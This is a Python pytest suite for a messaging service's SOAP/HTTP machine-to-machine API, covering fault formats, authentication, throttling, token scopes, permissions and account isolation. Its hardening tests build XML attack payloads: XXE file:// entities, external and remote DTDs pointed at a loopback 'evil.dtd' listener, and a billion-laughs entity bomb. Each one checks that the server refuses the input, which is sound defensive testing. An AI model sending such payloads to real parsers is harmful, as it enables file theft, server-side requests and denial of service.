"""M2M over raw HTTP: exact bytes of answers and faults, hardened XML, body cap, auth, permissions, accounts."""

from __future__ import annotations

import asyncio
import socket
import threading
import time
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from communicator.db.models import ApiPassword, Message
from communicator.db.session import Database
from communicator.m2m import handlers
from communicator.services.identity.api_password import get_api_password_hash
from tests.conftest import API, DEMO_PASSWORD, login
from tests.m2m_support import M2M, MD5, NS, PATH, get_shared_m2m

SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
DECL = '<?xml version="1.0" encoding="utf-8"?>'


@pytest.fixture(scope="module")
def m2m(tmp_path_factory: pytest.TempPathFactory) -> M2M:
    """The live server the M2M test modules share."""
    return get_shared_m2m(Path(tmp_path_factory.getbasetemp()))


def envelope(version: str, body: str) -> str:
    """A SOAP request envelope."""
    ns = SOAP11 if version == "1.1" else SOAP12
    return f'{DECL}<soap:Envelope xmlns:soap="{ns}"><soap:Body>{body}</soap:Body></soap:Envelope>'


def soap(m2m: M2M, version: str, body: str | bytes, op: str = "GetBalance") -> httpx.Response:
    """POST a SOAP request (1.1: text/xml + SOAPAction; 1.2: application/soap+xml)."""
    headers = (
        {"content-type": "text/xml; charset=utf-8", "soapaction": f'"{NS}/{op}"'}
        if version == "1.1"
        else {"content-type": f'application/soap+xml; charset=utf-8; action="{NS}/{op}"'}
    )
    return httpx.post(m2m.address, content=body, headers=headers, timeout=30)


def call_xml(op: str, login_name: str = "admin", password: str = MD5, **params: str) -> str:
    """An operation element with its parameters."""
    inner = "".join(f"<{k}>{v}</{k}>" for k, v in params.items())
    return f'<{op} xmlns="{NS}">{inner}<login>{login_name}</login><password>{password}</password></{op}>'


def count_messages(m2m: M2M) -> int:
    """Messages stored in the server's database."""

    async def count() -> int:
        db = Database(m2m.server.settings.database_url)
        try:
            async with db.read() as session:
                return int(await session.scalar(select(func.count()).select_from(Message)) or 0)
        finally:
            await db.dispose()

    return asyncio.run(count())


def test_http_get_answer_bytes(m2m: M2M) -> None:
    """An HTTP GET SendMessage answers exactly the declaration and <long xmlns=…>id</long>."""
    query = {"msid": "79161000001", "message": "Байты", "naming": "", "login": "admin", "password": MD5}
    response = httpx.get(f"{m2m.address}/SendMessage", params=query, timeout=10)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/xml")
    message_id = int(response.text.removeprefix(f'{DECL}<long xmlns="{NS}">').removesuffix("</long>"))
    assert response.content == f'{DECL}<long xmlns="{NS}">{message_id}</long>'.encode()
    posted = httpx.post(
        f"{m2m.address}/GetBalance",
        content=f"login=admin&password={MD5}",
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert posted.content == f'{DECL}<string xmlns="{NS}">0.00</string>'.encode()


def test_faults_on_each_binding(m2m: M2M) -> None:
    """A bad number: soap:Client (1.1), soap:Sender (1.2), a one-line 500 on GET and POST; nothing sent."""
    before = count_messages(m2m)
    bad = call_xml("SendMessage", msid="12", message="x", naming="")
    reason = "Invalid phone number(s): «12»."
    r11 = soap(m2m, "1.1", envelope("1.1", bad), "SendMessage")
    assert r11.status_code == 500 and r11.headers["content-type"].startswith("text/xml")
    assert r11.text == (
        f'{DECL}<soap:Envelope xmlns:soap="{SOAP11}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xmlns:xsd="http://www.w3.org/2001/XMLSchema"><soap:Body><soap:Fault><faultcode>soap:Client</faultcode>'
        f"<faultstring>{reason}</faultstring><detail /></soap:Fault></soap:Body></soap:Envelope>"
    )
    r12 = soap(m2m, "1.2", envelope("1.2", bad), "SendMessage")
    assert r12.status_code == 500 and r12.headers["content-type"].startswith("application/soap+xml")
    assert "<soap:Code><soap:Value>soap:Sender</soap:Value></soap:Code>" in r12.text
    assert f'<soap:Reason><soap:Text xml:lang="en">{reason}</soap:Text></soap:Reason>' in r12.text
    query = {"msid": "12", "message": "x", "naming": "", "login": "admin", "password": MD5}
    get = httpx.get(f"{m2m.address}/SendMessage", params=query)
    post = httpx.post(
        f"{m2m.address}/SendMessage",
        content=httpx.QueryParams(query).__str__(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    for response in (get, post):
        assert response.status_code == 500 and response.text == reason
    assert count_messages(m2m) == before


def test_internal_error_is_a_server_fault_without_trace(m2m: M2M, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unexpected failure is soap:Server / soap:Receiver / «Internal server error.», never a traceback."""

    async def broken(*_args: object) -> None:
        raise RuntimeError("secret internals")

    monkeypatch.setitem(handlers.HANDLERS, "GetBalance", broken)
    r11 = soap(m2m, "1.1", envelope("1.1", call_xml("GetBalance")))
    r12 = soap(m2m, "1.2", envelope("1.2", call_xml("GetBalance")))
    get = httpx.get(f"{m2m.address}/GetBalance", params={"login": "admin", "password": MD5})
    assert "<faultcode>soap:Server</faultcode>" in r11.text and "soap:Receiver" in r12.text
    assert get.status_code == 500 and get.text == "Internal server error."
    for response in (r11, r12, get):
        assert "secret internals" not in response.text and "Traceback" not in response.text


class Listener:
    """A TCP listener on loopback counting connections (an attacker's DTD server)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.running = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while self.running:
            try:
                connection, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(2)
        self.sock.close()


def test_xxe_and_external_dtd_refused(m2m: M2M, tmp_path: Path) -> None:
    """file:// entities and an external DTD are refused; the listener is never contacted."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    listener = Listener()
    try:
        bodies = [
            f'{DECL}<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
            + envelope("1.1", call_xml("SendMessage", msid="79161000001", message="&xxe;", naming="")).removeprefix(
                DECL
            ),
            f'{DECL}<!DOCTYPE soap:Envelope SYSTEM "http://127.0.0.1:{listener.port}/evil.dtd">'
            + envelope("1.1", call_xml("GetBalance")).removeprefix(DECL),
            f'{DECL}<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://127.0.0.1:{listener.port}/p.dtd"> %remote;]>'
            + envelope("1.1", call_xml("GetBalance")).removeprefix(DECL),
        ]
        for body in bodies:
            response = soap(m2m, "1.1", body)
            assert response.status_code == 500 and "<faultcode>soap:Client</faultcode>" in response.text
            assert "DTD" in response.text and "TOP-SECRET" not in response.text
        assert listener.hits == 0
    finally:
        listener.close()


@pytest.mark.exclusive  # measures 100 ms: nothing else may run meanwhile
def test_billion_laughs_refused_fast(m2m: M2M) -> None:
    """Nested entity expansion is refused before parsing, in < 100 ms."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    body = f"{DECL}<!DOCTYPE lolz [{entities}]>" + envelope(
        "1.1", call_xml("SendMessage", msid="79161000001", message="&lol9;", naming="")
    ).removeprefix(DECL)
    headers = {"content-type": "text/xml; charset=utf-8"}
    with httpx.Client(timeout=10) as http:
        http.get(f"{m2m.address}?wsdl")  # the connection is open before the clock starts
        started = time.perf_counter()
        response = http.post(m2m.address, content=body, headers=headers)
        elapsed = time.perf_counter() - started
    assert response.status_code == 500 and "DTD" in response.text
    assert elapsed < 0.1, elapsed


def test_20_mb_body_refused(m2m: M2M) -> None:
    """A 20 MB body is refused on SOAP and HTTP POST without being read whole."""
    big = b"<a>" + b"x" * (20 * 1024 * 1024) + b"</a>"
    response = soap(m2m, "1.2", big)
    assert response.status_code == 500 and "soap:Sender" in response.text and "over" in response.text
    form = httpx.post(
        f"{m2m.address}/GetBalance",
        content=b"login=" + b"x" * (20 * 1024 * 1024),
        headers={"content-type": "application/x-www-form-urlencoded"},
        timeout=30,
    )
    assert form.status_code == 500 and "over" in form.text


def test_auth_faults_are_the_same_and_throttled(m2m: M2M) -> None:
    """Unknown login and wrong password answer the same fault; past the limit the throttle refuses."""
    unknown = soap(m2m, "1.1", envelope("1.1", call_xml("GetBalance", login_name="nobody")))
    wrong = soap(m2m, "1.1", envelope("1.1", call_xml("GetBalance", password="0" * 32)))
    assert unknown.status_code == wrong.status_code == 500
    assert unknown.text == wrong.text and "Wrong login or API password." in wrong.text
    for _ in range(6):
        last = httpx.get(f"{m2m.address}/GetBalance", params={"login": "ghost", "password": "f" * 32})
    assert last.status_code == 500 and last.text.startswith("Too many failed logins")


def test_password_stored_only_as_keyed_hash(m2m: M2M) -> None:
    """The row holds HMAC-SHA256(secret, md5hex), never the MD5 itself."""

    async def stored() -> str:
        db = Database(m2m.server.settings.database_url)
        try:
            async with db.read() as session:
                return str(
                    await session.scalar(select(ApiPassword.secret_hash).where(ApiPassword.user_id == m2m.admin_id))
                )
        finally:
            await db.dispose()

    value = asyncio.run(stored())
    assert value != MD5 and MD5 not in value
    assert value == get_api_password_hash(m2m.server.app.state.server_secret, MD5)


def test_bearer_token_and_scopes(m2m: M2M) -> None:
    """Authorization: Bearer works with empty login/password; the token's scopes are checked by the action."""

    async def make_token(scopes: list[str]) -> str:
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http)
            response = await http.post(f"{API}/tokens/", json={"name": f"m2m {scopes}", "scopes": scopes})
            assert response.status_code == 201, response.text
            return response.json()["token"]

    sender, reader = asyncio.run(make_token(["messages:send"])), asyncio.run(make_token(["messages:read"]))
    query = {"msid": "79161000001", "message": "Токен", "naming": "", "login": "", "password": ""}
    ok = httpx.get(f"{m2m.address}/SendMessage", params=query, headers={"authorization": f"Bearer {sender}"})
    assert ok.status_code == 200 and "<long" in ok.text
    refused = httpx.get(f"{m2m.address}/SendMessage", params=query, headers={"authorization": f"Bearer {reader}"})
    assert refused.status_code == 500 and "messages:send" in refused.text
    bad = httpx.get(f"{m2m.address}/SendMessage", params=query, headers={"authorization": "Bearer cm_nope"})
    assert bad.status_code == 500 and bad.text == "Wrong login or API password."


def test_refused_send_names_msids_and_sends_nothing(m2m: M2M) -> None:
    """A restricted Operator's send to people outside their reach names every msid; nothing is stored."""

    async def restrict() -> None:
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http)
            users = (await http.get(f"{API}/users")).json()["items"]
            operator = next(u["id"] for u in users if u["login"] == "operator")
            body = {"all": False, "groups": [], "employees": [], "tags": []}
            assert (await http.put(f"{API}/users/{operator}/permissions", json=body)).status_code == 200

    asyncio.run(restrict())
    m2m.set_password("operator", "operator-api-pw")
    import hashlib

    md5 = hashlib.md5(b"operator-api-pw").hexdigest()
    before = count_messages(m2m)
    msids = "".join(f"<string>{m}</string>" for m in ("79161000001", "79035559999"))
    body = envelope(
        "1.2", call_xml("SendMessages", login_name="operator", password=md5, msids=msids, message="Нельзя", naming="")
    )
    response = soap(m2m, "1.2", body, "SendMessages")
    assert response.status_code == 500 and "soap:Sender" in response.text
    assert "79161000001" in response.text and "79035559999" in response.text and "Nothing was sent" in response.text
    assert count_messages(m2m) == before


def test_other_accounts_ids_are_not_found(m2m: M2M) -> None:
    """Another account's admin cannot read this account's message or touch its mailing list."""
    own_id = int(
        httpx.get(
            f"{m2m.address}/SendMessage",
            params={"msid": "79161000001", "message": "Наше", "naming": "", "login": "admin", "password": MD5},
        )
        .text.split(">")[2]
        .split("<")[0]
    )

    async def other_account() -> None:
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http)
            account = {
                "name": "Чужая",
                "short_number": "5555",
                "admin_login": "other-admin",
                "admin_password": DEMO_PASSWORD,
            }
            assert (await http.post(f"{API}/platform/accounts", json=account)).status_code == 201
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http, "other-admin")
            me = (await http.get(f"{API}/auth/me")).json()
            assert (
                await http.put(f"{API}/users/{me['id']}/api_password", json={"password": "other-api-pw"})
            ).status_code == 204

    asyncio.run(other_account())
    import hashlib

    other = {"login": "other-admin", "password": hashlib.md5(b"other-api-pw").hexdigest()}
    status = httpx.get(f"{m2m.address}/GetMessageStatus", params={"messageID": own_id, **other})
    assert status.status_code == 500 and status.text == f"Message {own_id} not found."
    groups = httpx.get(f"{m2m.address}/GetGroups", params=other)
    assert groups.status_code == 200 and "Монтажники" not in groups.text
    contacts = httpx.get(f"{m2m.address}/GetMailingListContacts", params={"mailingListId": 1, **other})
    assert contacts.status_code == 500 and "not found" in contacts.text


def test_api_password_route_is_admin_only_and_audited(m2m: M2M) -> None:
    """PUT /users/{id}/api_password: 204 for the admin (audited), 403 for an Operator, 422 for a short one."""

    async def run() -> None:
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http)
            short = await http.put(f"{API}/users/{m2m.admin_id}/api_password", json={"password": "short"})
            assert short.status_code == 400 or short.status_code == 422
            audit = (await http.get(f"{API}/audit")).json()["items"]
            assert any(e["action"] == "user.api_password_set" for e in audit)
        async with httpx.AsyncClient(base_url=m2m.url) as http:
            await login(http, "operator")
            refused = await http.put(f"{API}/users/{m2m.admin_id}/api_password", json={"password": "long-enough-1"})
            assert refused.status_code == 403

    asyncio.run(run())


def test_unknown_paths_and_operations(m2m: M2M) -> None:
    """Unknown HTTP operations and SOAP-only operations over GET answer one line; other paths 404."""
    assert httpx.get(f"{m2m.address}/Nope").text.startswith("Unknown operation")
    assert httpx.get(f"{m2m.address}/CreateMailingList").status_code == 500
    assert httpx.get(m2m.url + PATH).status_code == 404
